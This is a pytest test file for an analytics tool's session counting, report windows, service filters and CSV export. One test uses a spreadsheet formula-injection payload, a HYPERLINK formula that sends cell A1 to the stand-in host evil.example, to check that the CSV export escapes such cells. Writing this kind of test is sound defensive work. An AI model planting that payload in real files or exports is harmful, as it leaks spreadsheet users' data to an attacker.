"""Sessions in the report: the 30-minute rule, the app's session id, and the CSV export."""

from __future__ import annotations

import csv
import io
import itertools
import json
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any, Optional

import pytest

from otel_user_tracking.__main__ import main
from otel_user_tracking.analytics.events import AnalyticsEvent
from otel_user_tracking.sinks import SQLiteSink
from otel_user_tracking.store.reader import open_reader
from otel_user_tracking.store.report import build_report
from otel_user_tracking.store.report_csv import HEADER
from otel_user_tracking.store.sessions import PageCount, sessions_by_sql

START = datetime(2026, 11, 20, 8, 0, tzinfo=timezone.utc)
_IDS = itertools.count(1)


def view(
    minutes: float, page: str, visitor: Optional[str] = "v1", session: Optional[str] = None, **fields: Any
) -> AnalyticsEvent:
    when = START + timedelta(minutes=minutes)
    index = next(_IDS)
    return AnalyticsEvent(
        type="pageview",
        trace_id=f"{index:032x}",
        span_id=f"{index:016x}",
        timestamp=when,
        route=page,
        visitor_id=visitor,
        session_id=session,
        **fields,
    )


def store(path: Path, events: list[AnalyticsEvent]) -> Path:
    sink = SQLiteSink(path)
    sink.send(events)
    sink.close()
    return path


def test_a_visitors_pageviews_more_than_30_minutes_apart_start_a_new_session(tmp_path: Path) -> None:
    """Exactly 30 minutes apart is one session, a microsecond more starts another; the report and the
    window-function statement agree."""
    events = [
        view(0, "/"),
        view(30, "/pricing"),  # exactly 30 min after: the same session
        view(60 + 1 / 60e6, "/docs"),  # 30 min and a microsecond after: a new one
        view(200, "/"),  # a bounce
        view(5, "/", visitor="v2"),  # another visitor's bounce
    ]
    path = store(tmp_path / "a.db", events)
    visits = build_report(path, START - timedelta(hours=1)).sessions
    assert (visits.sessions, visits.bounces, visits.pageviews) == (4, 3, 5)
    assert visits.median_duration_s == 0 and visits.mean_duration_s == pytest.approx(30 * 60 / 4)
    assert visits.entry_pages == (PageCount("/", 3), PageCount("/docs", 1))
    assert visits.exit_pages == (PageCount("/", 2), PageCount("/docs", 1), PageCount("/pricing", 1))
    reader = open_reader(path)
    try:
        assert sessions_by_sql(reader, "ts_us >= ?", (0,), 10) == visits
    finally:
        reader.close()


def test_the_apps_session_id_wins_over_the_gap_and_the_visitor(tmp_path: Path) -> None:
    """Pageviews with a session id are that session's however far apart, and across visitor ids (an
    address that changed); the visitor's other pageviews follow the 30-minute rule."""
    events = [
        view(0, "/", visitor="v1", session="s1"),
        view(120, "/cart", visitor="v9", session="s1"),  # two hours later, another visitor id
        view(121, "/checkout", visitor="v1"),  # no session id: the visitor's own session
        view(3, "/", visitor=None, session="s2"),  # Sec-GPC: no visitor, still the app's session
        view(4, "/", visitor=None),  # no visitor, no session: in no session
    ]
    path = store(tmp_path / "a.db", events)
    report = build_report(path, START - timedelta(hours=1))
    visits = report.sessions
    assert (visits.sessions, visits.bounces, visits.pageviews) == (3, 2, 4)
    assert visits.median_duration_s == 0 and visits.mean_duration_s == pytest.approx(120 * 60 / 3)
    assert report.pageviews == 5


def test_a_session_starts_at_the_windows_first_pageview(tmp_path: Path) -> None:
    """Only pageviews inside the window count: a visit begun before ``since`` enters at its first
    one inside."""
    path = store(tmp_path / "a.db", [view(0, "/"), view(10, "/a"), view(20, "/b")])
    visits = build_report(path, START + timedelta(minutes=5)).sessions
    assert (visits.sessions, visits.pageviews, visits.entry_pages) == (1, 2, (PageCount("/a", 1),))


def test_no_pageview_no_session(tmp_path: Path) -> None:
    """An empty window has no sessions and no rates (None, not a division by zero)."""
    visits = build_report(store(tmp_path / "a.db", [view(0, "/")]), START + timedelta(hours=1)).sessions
    assert (visits.sessions, visits.bounce_rate, visits.mean_duration_s, visits.median_duration_s) == (
        0,
        None,
        None,
        None,
    )


def _csv(database: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> list[list[str]]:
    assert main(["report", str(database), "--since", "2026-11-01", "--format", "csv", *extra]) == 0
    return list(csv.reader(io.StringIO(capsys.readouterr().out)))


def test_csv_is_one_long_table_of_the_json_reports_values(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--format csv``: one header, five columns on every row, and the JSON report's figures and rows."""
    path = store(tmp_path / "a.db", [view(0, "/"), view(10, "/a"), view(100, "/", visitor="v2")])
    rows = _csv(path, capsys)
    assert rows[0] == list(HEADER) and {len(row) for row in rows} == {5}
    assert main(["report", str(path), "--since", "2026-11-01", "--format", "json"]) == 0
    report = json.loads(capsys.readouterr().out)
    cells = {(section, rank, item, metric): value for section, rank, item, metric, value in rows[1:]}
    assert cells[("summary", "", "", "pageviews")] == str(report["pageviews"]) == "3"
    assert cells[("sessions", "", "", "sessions")] == "2"
    assert cells[("sessions", "", "", "bounce_rate")] == str(report["sessions"]["bounce_rate"])
    assert cells[("routes", "1", "/", "pageviews")] == "2"
    assert cells[("entry_pages", "1", "/", "sessions")] == "2"
    assert cells[("exit_pages", "1", "/", "sessions")] == "1" and cells[("exit_pages", "2", "/a", "sessions")]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_cannot_run_as_spreadsheet_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], start: str
) -> None:
    """A stored value starting with = + - @ tab or CR is written with a leading ' (OWASP), text quoted."""
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    path = store(tmp_path / "a.db", [view(0, evil, referrer=evil, locale=evil)])
    text_rows = _csv(path, capsys)
    values = [cell for row in text_rows[1:] for cell in (row[2], row[4])]
    shown = [cell for cell in values if "HYPERLINK" in cell]
    assert len(shown) >= 4 and all(cell.startswith("'") for cell in shown), shown


def test_the_report_filters_by_service_and_environment(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--service``/``--environment`` keep one service's events; the table lists the services when
    several."""
    events = [
        view(0, "/", service_name="shop", deployment_environment="production"),
        view(1, "/", visitor="v2", service_name="api", deployment_environment="production"),
        view(2, "/a", visitor="v3", service_name="api", deployment_environment="staging"),
    ]
    path = store(tmp_path / "a.db", events)
    assert main(["report", str(path), "--since", "2026-11-01"]) == 0
    table = capsys.readouterr().out
    assert "Services" in table and "staging" in table
    assert main(["report", str(path), "--since", "2026-11-01", "--format", "json", "--service", "api"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert (report["pageviews"], report["visitors"], report["service"]) == (2, 2, "api")
    assert [row["environment"] for row in report["services"]] == ["production", "staging"]
    assert (
        main(["report", str(path), "--since", "2026-11-01", "--format", "json", "--environment", "staging"])
        == 0
    )
    assert json.loads(capsys.readouterr().out)["routes"] == [{"page": "/a", "pageviews": 1, "visitors": 1}]


def test_services_count_a_service_only_the_early_pageviews_have(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A service whose pageviews are all older than the latest ones the report looks at first
    is still listed with its count, as are services beyond the 16 counted in one pass."""
    import otel_user_tracking.store.report as report_module

    monkeypatch.setattr(report_module, "_LATEST", 3)
    early = [view(0, "/", service_name="batch", deployment_environment="staging")]
    many = [view(1 + n, "/", visitor=f"v{n}", service_name=f"s{n % 20}") for n in range(40)]
    latest = [view(50 + n, "/", service_name="shop", deployment_environment="production") for n in range(3)]
    for events, expected in (
        (early + latest, [("shop", "production", 3), ("batch", "staging", 1)]),
        (many, [(f"s{n}", None, 2) for n in sorted(range(20), key=str)]),
    ):
        path = store(tmp_path / f"{len(events)}.db", events)
        report = build_report(path, START - timedelta(days=1))
        assert [(row.service, row.environment, row.pageviews) for row in report.services] == expected
